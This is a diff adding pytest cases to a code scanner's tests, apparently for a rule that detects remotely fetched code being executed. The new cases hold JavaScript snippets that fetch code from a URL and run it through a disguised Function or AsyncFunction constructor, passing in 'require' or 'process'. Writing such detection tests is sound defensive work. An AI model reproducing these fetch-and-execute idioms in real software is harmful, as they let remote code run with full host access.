@@ -355,3 +355,23 @@ def test_a_computed_import_of_a_local_module_is_not_remote(tmp_path: Path) -> No
         tmp_path, {"scripts/v.ts": code, "assets/formats.json": '{"entry": "dates.ts"}'}
     )
     assert "SKC-FL-001" not in found
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "const code = await (await fetch('https://cdn.example/r.mjs')).text();\n"
+        "const AsyncFn = Object.getPrototypeOf(async function () {}).constructor;\n"
+        "await new AsyncFn('require', code)(require);\n",
+        "const body = await (await fetch(u)).text();\nconst F = (async () => {}).constructor;\n"
+        "const run = F('process', body);\nrun(process);\n",
+        "const t = await (await fetch(u)).text();\nconst Make = Function.prototype.constructor;\nMake(t)();\n",
+    ],
+)
+def test_the_function_constructor_by_another_name_runs_fetched_code(text: str) -> None:
+    assert "SKC-FL-001" in _rules(text, typescript=True)
+
+
+def test_a_functions_constructor_property_on_plain_data_is_not_code() -> None:
+    text = "const cfg = await (await fetch(u)).json();\nconst kind = cfg.constructor.name;\nconsole.log(kind);\n"
+    assert "SKC-FL-001" not in _rules(text, typescript=True)
